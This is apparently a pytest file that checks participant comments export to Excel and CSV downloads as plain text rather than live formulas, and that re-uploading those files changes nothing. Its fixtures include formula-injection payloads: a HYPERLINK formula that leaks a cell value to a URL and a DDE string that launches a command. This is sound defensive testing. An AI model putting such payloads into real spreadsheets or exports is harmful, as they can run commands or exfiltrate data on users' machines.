"""Comments written by participants reach the downloaded workbooks and CSV files as text,
never as a formula, and come back unchanged when the file is uploaded again."""

import csv
import io
import zipfile

import openpyxl

from benchlearn.collection.files.export import round_csv, round_template, unit_template
from benchlearn.collection.selectors import submission_values
from tests.collection.conftest import dump, save
from tests.collection.test_files import run

FORMULA = '=HYPERLINK("http://example.org/?"&B2,"Kliknij")'
MINUS = "-5 uczniów mniej niż w planie"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def _no_formula_in(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


def test_hostile_comments_are_text_in_every_download_and_round_trip(
    round_, sub_a, participant_a, operator, unit_a, tmp_path
):
    save(
        sub_a,
        participant_a,
        {"EDU_EXP": ("1 000", FORMULA), "TEACHERS": ("-0", MINUS), "SUBSIDY": ("5", AT)},
    )
    comments = {code: v.comment for code, v in submission_values(sub_a).items()}
    assert comments == {"EDU_EXP": FORMULA, "TEACHERS": MINUS, "SUBSIDY": AT}

    template = unit_template(sub_a)
    _no_formula_in(template)
    sheet = openpyxl.load_workbook(io.BytesIO(template)).worksheets[0]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for code, comment in comments.items():
        cell = rows[code][6]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (comment, "s", True)
    assert rows["EDU_EXP"][5].value == 1000 and rows["EDU_EXP"][5].data_type == "n"

    workbook = round_template(round_)
    _no_formula_in(workbook)

    data = round_csv(round_)
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    written = {line[1]: line[3] for line in lines[1:]}
    assert written == {code: "'" + comment for code, comment in comments.items()}
    assert {line[1]: line[2] for line in lines[1:]}["TEACHERS"] == "0"

    # Uploaded again, each file changes nothing: the comments are read back as written.
    before = dump()
    for name, content, unit in [("t.xlsx", template, unit_a), ("r.csv", data, None)]:
        path = tmp_path / name
        path.write_bytes(content)
        result = run(path, round_, operator if unit is None else participant_a, unit)
        assert result.ok and result.changed == 0, (name, result.problems)
    assert dump() == before
